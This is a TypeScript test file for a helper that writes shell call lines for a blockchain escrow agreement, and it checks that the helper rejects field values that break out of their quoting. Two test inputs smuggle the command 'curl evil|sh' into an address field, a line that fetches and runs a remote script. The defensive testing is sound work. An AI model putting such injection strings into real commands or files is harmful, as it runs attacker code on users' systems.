import { describe, expect, it } from "vitest";
import type { Agreement, Chain } from "@/api/shapes";
import { callFile, conditionsOf } from "@/help/callFile";

const CHAIN = { chain_id: 31_337, escrow: "0x1d5415E2de55819A96d039bAEB208e68fB778c2e" } as Chain;
const EMPLOYER = "0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266";
const WORKER = "0x70997970C51812dc3A010C7d01b50e0d17dc79C8";
const ZERO = "0x0000000000000000000000000000000000000000";
const HASH = `0x${"00".repeat(32)}`;
const part = (amount: string) => ({ amount, deliver_by: "2040-01-01T00:00:00Z" });
const agreement = {
  terms: {
    ...{ employer: EMPLOYER, worker: WORKER, token: ZERO, fee_bps: 250, fee_recipient: EMPLOYER, arbiter: ZERO },
    ...{ review_period: 86_400, dispute_period: 172_800, default_worker_bps: 5_000, brief_hash: HASH, parent: HASH },
    ...{ salt: "7", milestones: [part("100"), part("40")] },
  },
  milestones: [{ index: 0 }, { index: 1 }],
} as unknown as Agreement;

const text = callFile(agreement, CHAIN, { head: "# head", titleOf: (name, one) => `${name} ${one ?? "-"}` });
const below = (title: string) => text.split(`# ${title}\n`)[1]?.split("\n")[0] ?? "";

describe("the calls that are taken along", () => {
  const payment = `'(${EMPLOYER},${WORKER},${ZERO},${EMPLOYER},250,86400)'`;

  it("name each milestone with its own amount, and the hash of the conditions", () => {
    expect(below("claim 1")).toContain(`${payment} '1' '40' '${conditionsOf(agreement)}'`);
    expect(below("claim 0")).toContain(`${payment} '0' '100' '${conditionsOf(agreement)}'`);
  });

  it("leave open what only who acts can know, and signatures empty", () => {
    expect(below("release 0")).toMatch(/ "\$RELEASED" 0x$/);
    expect(below("deliver 0")).toMatch(/ "\$DELIVERABLE" 0x$/);
  });

  it("hold the whole conditions where the contract wants them, and send money along where it takes any", () => {
    expect(below("fund -")).toContain(
      `"$MILESTONES" '(${ZERO},172800,5000,${HASH},${HASH},7,[(100,2208988800),(40,2208988800)])'`,
    );
    expect(below("fund -")).toMatch(/ 0x --value "\$VALUE"$/);
  });

  it.each([
    ["fee_recipient", `${EMPLOYER.slice(0, -2)}'; curl evil|sh; '`],
    ["brief_hash", `${HASH}';x'`],
    ["review_period", "1';x'"],
  ])("are not written down with a %s that breaks out of its place", (member, value) => {
    const lying = { ...agreement, terms: { ...agreement.terms, [member]: value } } as Agreement;
    expect(() => callFile(lying, CHAIN, { head: "", titleOf: () => "" })).toThrow();
  });

  it("are not written down for a contract that is no address", () => {
    const elsewhere = { ...CHAIN, escrow: "0x12; curl evil|sh" } as Chain;
    expect(() => callFile(agreement, elsewhere, { head: "", titleOf: () => "" })).toThrow();
  });

  it("leave out what is about two agreements, or about none", () => {
    for (const name of ["amend", "batch", "permit"]) expect(text).not.toContain(`# ${name} `);
  });
});
